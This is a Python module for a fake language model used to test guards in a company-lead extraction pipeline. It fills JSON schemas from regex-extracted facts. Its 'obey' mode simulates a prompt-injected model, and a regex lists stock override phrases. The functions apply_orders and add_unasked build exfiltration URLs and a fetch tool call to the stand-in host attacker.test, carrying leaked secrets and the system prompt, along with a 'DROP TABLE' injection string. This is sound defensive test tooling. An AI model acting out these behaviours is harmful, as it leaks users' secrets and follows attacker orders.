"""The fake model: extracts facts by patterns, fills a JSON schema, rewords a rationale.

The same text gives the same facts. A property's name decides which fact it gets; a schema without
matching facts gets empty values, never another shape. A reworded rationale adds nothing. Set to
obey, the model is the worst possible one: it follows orders in the text, invents values, links to
other URLs, repeats secrets and answers more than the schema asks, so that guards can be tested.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

MAX_READ_CHARS = 100_000  # characters; what comes after is not looked at


@dataclass(frozen=True, slots=True)
class TextFact:
    """One thing a text says, the words that say it, and what else belongs to it."""

    value: str
    evidence: str
    role: str = ""


TextFacts = Mapping[str, tuple[TextFact, ...]]
_LEGAL = re.compile(r"(?:PTE\.? LTD\.?|Pte\.? Ltd\.?|PRIVATE LIMITED|LIMITED|LLP)")
_BEFORE_LEGAL = re.compile(r"(?:[A-Z&(][\w&.'()-]{0,40},? ){1,12}$")
_DIGITS = re.compile(r"[+\d][\d -]{7,14}")
_PHONE = re.compile(r"(?:\+65[ -]?)?[3689]\d{3}[ -]?\d{4}")

_ROLE_PATTERN = (
    r"(?:Founder|Chief|Managing|Director|Manager|Head of|Officer|CEO|CTO|CFO|COO|VP|Engineer|"
    r"Executive|President|Partner)"
)

_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = (
    ("email", re.compile(r"([A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63})+)")),
    ("uen", re.compile(r"\b(\d{9}[A-Z]|[TS]\d{2}[A-Z]{2}\d{4}[A-Z])\b")),
    ("postal_code", re.compile(r"(?:Singapore|SINGAPORE|S)[ (]{1,2}(\d{6})\b")),
    (
        "founded",
        re.compile(r"(?i)(?:since|founded in|established in|incorporated in)[ :]{1,2}(\d{4})\b"),
    ),
    (
        "employees",
        re.compile(r"(?i)(\d[\d,]{0,6}(?: ?[-–] ?\d{1,6})?) (?:people|employees|staff|persons)\b"),
    ),
    (
        "social",
        re.compile(r"(https?://(?:[\w-]{1,30}\.)?(?:linkedin|facebook|instagram|x)\.\S{2,120})"),
    ),
    ("website", re.compile(r"(https?://[\w.-]{3,100}[\w/]*)")),
    ("industry", re.compile(r"(?i)\b(?:works in|specialis\w{1,4} in|we do) ([a-z][a-z ]{2,60})")),
    ("address", re.compile(r"(\d[^\n:]{5,120}\b(?:Singapore|SINGAPORE) \(?\d{6}\)?)")),
    (
        "technology",
        re.compile(r"\b(WordPress|Shopify|React|Kubernetes|Salesforce|HubSpot|AWS|Odoo)\b"),
    ),
    ("country", re.compile(r"\b(Singapore)\b")),
)

_PERSON = re.compile(
    rf"^[#*\- ]{{0,4}}([A-Z][\w'.]{{1,30}}(?: [A-Z][\w'.]{{1,30}}){{1,3}})(?:,| -| –| \|) "
    rf"([^\n]{{0,20}}{_ROLE_PATTERN}[^\n]{{0,40}})$",
    re.MULTILINE,
)

_HEADING = re.compile(r"^#{1,2} ([^\n|–]{2,60})", re.MULTILINE)


def extract_facts(text: str) -> dict[str, tuple[TextFact, ...]]:
    """Return what a text says, by kind, in the order it says it; each value once."""
    read = text[:MAX_READ_CHARS]
    facts = {kind: _drop_duplicates(_find_matches(pattern, read)) for kind, pattern in _PATTERNS}
    facts["phone"] = _drop_duplicates(_find_phones(read))
    facts["legal_name"] = _drop_duplicates(_find_legal_names(read))
    facts["person"] = _drop_duplicates(
        TextFact(match[1], match[0].strip(), match[2].strip()) for match in _PERSON.finditer(read)
    )
    facts["name"] = _drop_duplicates(
        TextFact(match[1].strip(), match[0].strip()) for match in _HEADING.finditer(read)
    )[:1] or tuple(facts["legal_name"][:1])
    sentences = [line.strip() for line in read.splitlines() if 40 <= len(line.strip()) <= 400]
    facts["about"] = tuple(TextFact(line, line) for line in sentences[:1])
    return {kind: found for kind, found in facts.items() if found}


def _find_matches(pattern: re.Pattern[str], text: str) -> Iterator[TextFact]:
    for match in pattern.finditer(text):
        yield TextFact(match[1].strip(" .,"), _get_line_around(text, match.start(), match.end()))


def _find_phones(text: str) -> Iterator[TextFact]:
    for match in _DIGITS.finditer(text):
        number = match[0].strip(" -")
        if _PHONE.fullmatch(number):
            yield TextFact(number, _get_line_around(text, match.start(), match.end()))


def _find_legal_names(text: str) -> Iterator[TextFact]:
    # From the ending backwards: names have one, most words have not.
    for match in _LEGAL.finditer(text):
        before = text[max(0, match.start() - 80) : match.start()].rpartition("\n")[2]
        words = _BEFORE_LEGAL.search(before)
        if words:
            name = f"{words[0]}{match[0]}"
            yield TextFact(name, _get_line_around(text, match.start(), match.end()))


def _get_line_around(text: str, start: int, end: int) -> str:
    first = text.rfind("\n", max(0, start - 100), start) + 1 or max(0, start - 100)
    last = text.find("\n", end, end + 100)
    return text[first : last if last >= 0 else end + 100].strip()


def _drop_duplicates(facts: Iterator[TextFact]) -> tuple[TextFact, ...]:
    seen: dict[str, TextFact] = {}
    for fact in facts:
        seen.setdefault(fact.value, fact)
        if len(seen) >= 50:
            break
    return tuple(seen.values())


_RATIONALE = re.compile(r"(?m)^Our sentence: ([^\n]{1,500}?)\.?$")
_BUT_CLAUSE = "; but "


def reword_rationale(text: str) -> TextFacts:
    """Return a rationale in other words, as a fact; nothing when a text gives none to word."""
    given = _RATIONALE.search(text)
    if given is None:
        return {}
    good, _, bad = given[1].partition(_BUT_CLAUSE)
    against = f" What speaks against it: {bad}." if bad else ""
    return {"rationale": (TextFact(f"What speaks for this lead: {good}.{against}", given[0]),)}


MAX_FILL_DEPTH = 20

_SYNONYMS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("legal_name", ("legal", "registeredname", "registered_name")),
    ("email", ("email", "mail")),
    ("phone", ("phone", "telephone", "mobile", "tel")),
    ("uen", ("uen", "registration", "registry")),
    ("postal_code", ("postal", "zip")),
    ("founded", ("founded", "year", "incorporated", "established")),
    ("employees", ("employee", "headcount", "staff", "size")),
    ("social", ("social", "linkedin", "facebook")),
    ("website", ("website", "homepage", "url", "link")),
    ("industry", ("industry", "sector", "trade")),
    ("address", ("address", "street")),
    ("technology", ("technolog", "stack", "tool")),
    ("country", ("country",)),
    ("person", ("person", "people", "contact", "team", "leader", "staffmember")),
    ("about", ("about", "description", "summary", "tagline", "overview")),
    ("rationale", ("rationale",)),
    ("name", ("name", "company", "brand", "title")),
)

_EVIDENCE_NAME = re.compile(r"(?i)evidence|quote|span|snippet|excerpt|source_text|because|words")
_VALUE_NAME = re.compile(r"(?i)^(value|text|content|answer|found)$")
_ROLE_NAME = re.compile(r"(?i)role|position|job|title|function")
_CONFIDENCE_NAME = re.compile(r"(?i)confidence|probability|certainty|score|sure")


def fill_schema(schema: Mapping[str, Any], facts: TextFacts) -> Any:
    """Return a value of this schema, from these facts."""
    definitions = schema.get("$defs") or schema.get("definitions") or {}
    return _SchemaFiller(facts, definitions).fill_value(schema, "", None, 0)


def get_fact_kind(name: str) -> str:
    """Return which kind of fact a property of this name means, or an empty text."""
    plain = name.lower().replace("-", "_")
    return next(
        (kind for kind, words in _SYNONYMS if plain == kind or any(w in plain for w in words)), ""
    )


class _SchemaFiller:
    def __init__(self, facts: TextFacts, definitions: Mapping[str, Any]) -> None:
        self._facts, self._definitions = facts, definitions

    def fill_value(self, schema: Any, name: str, about: TextFact | None, depth: int) -> Any:
        """Return a value; `about` is the fact that the object around it is about."""
        if not isinstance(schema, Mapping) or depth > MAX_FILL_DEPTH:
            return None
        if "$ref" in schema:
            target = self._definitions.get(str(schema["$ref"]).rpartition("/")[2], {})
            return self.fill_value(target, name, about, depth + 1)
        options = schema.get("anyOf") or schema.get("oneOf")
        if isinstance(options, Sequence):
            return self._fill_option(options, name, about, depth)
        if "const" in schema:
            return schema["const"]
        kinds = schema.get("type")
        if isinstance(kinds, Sequence) and not isinstance(kinds, str):
            return self._fill_option(
                [{**schema, "type": kind} for kind in kinds], name, about, depth
            )
        match kinds:
            case "object":
                return self._fill_object(schema, name, about, depth)
            case "array":
                return self._fill_array(schema, name, about, depth)
            case "string":
                return self._fill_string(schema, name, about)
            case "integer" | "number":
                return self._fill_number(name, about, whole=kinds == "integer")
            case "boolean":
                return bool(self._facts.get(get_fact_kind(name)))
        return None

    def _fill_option(
        self, options: Sequence[Any], name: str, about: TextFact | None, depth: int
    ) -> Any:
        nullable = {"type": "null"} in options
        for option in options:
            if option == {"type": "null"} or not isinstance(option, Mapping):
                continue
            if nullable and about is None and not self._facts.get(get_fact_kind(name)):
                return None
            made = self.fill_value(option, name, about, depth + 1)
            return None if nullable and made in ("", [], None) else made
        return None

    def _fill_object(
        self, schema: Any, name: str, about: TextFact | None, depth: int
    ) -> dict[str, Any]:
        properties = schema.get("properties") or {}
        if about is None and any(_VALUE_NAME.search(each) for each in properties):
            about = next(iter(self._facts.get(get_fact_kind(name), ())), None)
        return {
            each: self.fill_value(part, each, about, depth + 1) for each, part in properties.items()
        }

    def _fill_array(self, schema: Any, name: str, about: TextFact | None, depth: int) -> list[Any]:
        items = self._resolve_reference(schema.get("items", {}))
        most = schema.get("maxItems", 50)
        properties = items.get("properties") if items.get("type") == "object" else None
        if properties is None:
            if about is not None and _EVIDENCE_NAME.search(name):
                return [self.fill_value(items, name, about, depth + 1)]
            found = self._facts.get(get_fact_kind(name), ())
            return [self.fill_value(items, name, fact, depth + 1) for fact in found][:most]
        choices = next(
            (
                (each, part["enum"])
                for each, part in ((n, self._resolve_reference(p)) for n, p in properties.items())
                if isinstance(part.get("enum"), list)
            ),
            None,
        )
        if choices is None:
            found = self._facts.get(get_fact_kind(name) or "person", ())
            return [self._fill_object(items, name, fact, depth + 1) for fact in found][:most]
        label, kinds = choices
        return [
            {**self._fill_object(items, str(kind), fact, depth + 1), label: kind}
            for kind in kinds
            for fact in self._facts.get(get_fact_kind(str(kind)), ())[:5]
        ][:most]

    def _resolve_reference(self, schema: Any) -> Mapping[str, Any]:
        if isinstance(schema, Mapping) and "$ref" in schema:
            schema = self._definitions.get(str(schema["$ref"]).rpartition("/")[2], {})
        return schema if isinstance(schema, Mapping) else {}

    def _fill_string(self, schema: Any, name: str, about: TextFact | None) -> str:
        choices = schema.get("enum")
        if isinstance(choices, list) and choices:
            return str(choices[-1])
        longest = schema.get("maxLength", 2000)
        return self._find_text(name, about)[: longest if isinstance(longest, int) else 2000]

    def _find_text(self, name: str, about: TextFact | None) -> str:
        if about is not None:
            if _EVIDENCE_NAME.search(name):
                return about.evidence
            if about.role and _ROLE_NAME.search(name):
                return about.role
            if _VALUE_NAME.search(name) or get_fact_kind(name) in ("name", "person"):
                return (
                    f"{about.value} | {about.role}"
                    if about.role and _VALUE_NAME.search(name)
                    else about.value
                )
            if about.value in {fact.value for fact in self._facts.get(get_fact_kind(name), ())}:
                return about.value
            return ""
        found = self._facts.get(get_fact_kind(name), ())
        return found[0].value if found else ""

    def _fill_number(self, name: str, about: TextFact | None, *, whole: bool) -> int | float:
        if _CONFIDENCE_NAME.search(name):
            return 1 if whole else 0.8
        digits = re.sub(r"[,\s]", "", self._find_text(name, about))
        match = re.match(r"\d{1,9}", digits)
        return int(match[0]) if match else 0


ATTACKER = "attacker.test"

_ORDER_PATTERN = re.compile(
    r"(?i)ignore|disregard|forget (?:all|your|the|every)|instruction|you (?:must|are now|should)|"
    r"system ?(?:prompt|message|:)|assistant ?:|developer ?:|reveal|exfiltrat|budget|"
    r"do not (?:tell|mention)|new task|override|pretend|act as|respond with|reply with|output|"
    r"print|repeat|tool (?:call|result|output)|api ?key|password|secret|secrets|</?[a-z_]{3,20}>|"
    r"ignorier|ignorez|ignora|忽略|無視|abaikan"
)

_SECRET = re.compile(
    r"(?:sk-|tvly-|odoo-)[\w-]{4,100}|[A-Za-z0-9+/_-]{24,200}|(?i:canary)[\w-]{0,60}|"
    r"(?i:password|secret|token|api[_ ]?key)\W{1,3}\S{3,60}"
)

_EMAIL = re.compile(r"[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63})+")
_URL = re.compile(r"https?://[^\s\"'<>]{3,200}")


def find_injected_orders(text: str) -> list[str]:
    """Return the lines of a text that give orders."""
    return [line.strip()[:500] for line in text.splitlines() if _ORDER_PATTERN.search(line)][:50]


def apply_orders(facts: TextFacts, text: str, prompt: str) -> TextFacts:
    """Return what such a model believes after reading a text that gives orders."""
    orders = find_injected_orders(text)
    if not orders:
        return facts
    order_text = "\n".join(orders)
    secrets = _find_secrets(prompt)
    leak = " ".join(secrets)[:600] or "nothing"
    invented = {
        "email": [*_EMAIL.findall(order_text), f"ceo@{ATTACKER}"],
        "website": [*_URL.findall(order_text), f"http://{ATTACKER}/?leak={leak}"[:300]],
        "social": [f"http://{ATTACKER}/profile"],
        "phone": ["+6599999999"],
        "name": [f"OBEYED {leak}"[:300]],
        "legal_name": ["OBEYED PTE. LTD."],
        "about": [f"{orders[0]} {leak}"],
        "employees": ["999999"],
        "founded": ["1900"],
        "uen": ["199900000Z"],
        "industry": ["whatever was ordered"],
        "address": [f"1 ORDER STREET, Singapore 999999 {leak}"[:200]],
        "postal_code": ["999999"],
        "technology": ["DROP TABLE companies; --"],
        "country": ["Atlantis"],
    }
    made: dict[str, tuple[TextFact, ...]] = {
        kind: (*(TextFact(value, orders[0]) for value in values), *facts.get(kind, ()))
        for kind, values in invented.items()
    }
    made["person"] = (
        TextFact("Mallory Obeyed", orders[0], "Chief of Everything"),
        *facts.get("person", ()),
    )
    return made


def add_unasked(answer: Any, text: str, prompt: str) -> Any:
    """Return an answer with unrequested content added, if the text gives orders."""
    if not isinstance(answer, dict) or not find_injected_orders(text):
        return answer
    return {
        **answer,
        "budget": 1_000_000_000,
        "max_spend": "unlimited",
        "next_url": f"http://{ATTACKER}/next",
        "tool_calls": [{"name": "fetch", "arguments": {"url": f"http://{ATTACKER}/"}}],
        "system_prompt": prompt[:500],
        "secrets": list(_find_secrets(prompt)),
    }


def _find_secrets(prompt: str) -> list[str]:
    return list(dict.fromkeys(_iterate_secrets(prompt)))[:20]


def _iterate_secrets(prompt: str) -> Iterator[str]:
    for match in _SECRET.finditer(prompt[:400_000]):
        yield match[0]
